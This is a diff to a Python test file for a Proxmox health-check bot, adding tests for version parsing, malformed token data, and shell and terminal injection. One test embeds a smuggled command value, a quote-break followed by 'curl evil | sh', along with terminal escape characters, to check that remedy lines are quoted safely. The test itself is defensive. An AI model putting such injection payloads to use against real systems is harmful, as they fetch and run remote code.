@@ -8,6 +8,7 @@ from __future__ import annotations
 import contextlib
 import json
 import re
+import shlex
 import socket
 import time
 import tomllib
@@ -18,13 +19,15 @@ from pathlib import Path
 import discord
 import pytest
 
+from adapters.proxmox.health_reads import HealthReads
 from bot import COGS
 from core.health.host import DataDir, File, judge_data_dir, judge_files, judge_packages
 from core.health.privileges import NEEDS, Scene, Token, grant_line, held_on, judge_token
-from core.health.proxmox import judge_tags, judge_version
-from core.health.result import Level, Result, exit_code
+from core.health.proxmox import Account, judge_tags, judge_version
+from core.health.result import Level, Result, error, exit_code
 from playground.discord.faults import PlannedFault
 from playground.pve.server import BOT_PRIVILEGES, BOT_USER
+from proxmox_client import Address, Endpoint
 from startup.command_line import commands_of, parse_command_line
 from startup.doctor.probe import certificate_of, offset_of
 from startup.doctor.report import json_report, text_report
@@ -307,7 +310,7 @@ def node_is_unknown(_s: ProcessStage) -> Iterator[Settings]:
     yield {"NODE_NAME": "pve9"}
 
 
-@fault("tags_open", DOUBT, r"pvesh set /cluster/options --registered-tags '\S*owner-4242'")
+@fault("tags_open", DOUBT, r"pvesh set /cluster/options --registered-tags \S*owner-4242")
 def everybody_may_set_owners(s: ProcessStage) -> Iterator[Settings]:
     guest = s.pve.guest(101)
     before = guest.config.get("tags")
@@ -553,13 +556,34 @@ def test_who_may_set_the_tags(options: dict[str, object], word: str) -> None:
 
 
 def test_versions_and_clocks() -> None:
-    words = {text: judge_version(text, "").word for text in ("8.3.9", "8.4.0", "9.2.11", "10.0.1", "?")}
-    assert list(words.values()) == ["version_old", "version_ok", "version_ok", "version_new", "version_old"]
+    words = {text: judge_version(text, "").word for text in ("8.3.9", "8.4.0", "9.2.11", "10.0.1", "?", "²")}
+    assert list(words.values()) == [f"version_{word}" for word in ("old", "ok", "ok", "new", "old", "old")]
     assert offset_of("Thu, 01 Jan 1970 00:10:00 GMT", 0.0, 1.0) == 599.0
     assert offset_of("Thu, 01 Jan 1970 00:00:00 GMT", 0.5, 0.6) == 0.0
     assert offset_of("soon", 0.0, 1.0) is None
     with pytest.raises(ValueError, match="not a certificate"):
         certificate_of(b"\x30\x03\x02\x01\x01")
+
+
+def test_what_proxmox_sends_cannot_command_a_shell_or_a_terminal() -> None:
+    """Its remedies are pasted into a root shell, and the report goes to a terminal."""
+    evil = "x'; curl evil | sh #"
+    told = judge_tags({}, [f"owner-{evil}"], (), "").values["line"]
+    assert shlex.split(told)[-2:] == ["--registered-tags", f"owner-{evil}"]
+    granted = grant_line(Token("bot@pve", "bot", {}, 9), "View", {"VM.Audit"}, [f"/pool/{evil}"])
+    assert f"/pool/{evil}" in shlex.split(granted)
+    name = "\x9b31m\u202e\ud800"
+    results = [error("discord.guild", "no_guild", guild=name, line="x")]
+    assert json_report(Texts("ja").of("ja"), results).isascii()
+    assert not any(char in text_report(Texts("ja").of("ja"), results) for char in name if char not in "31m")
+
+
+async def test_a_user_list_with_nonsense_is_read() -> None:
+    """Its times decide only how long the token lasts: no other check ends with them."""
+    rows = [{"userid": BOT_USER, "expire": "²", "tokens": [{"tokenid": "bot", "expire": "9" * 400}]}]
+    reads = HealthReads(Endpoint((Address("127.0.0.1", 1),), user=BOT_USER, token_name="bot", token_value=""))
+    assert reads._account(rows) == Account(0.0, 0.0)
+    reads.close()
 
 
 def test_the_commands_are_those_of_the_tree() -> None:
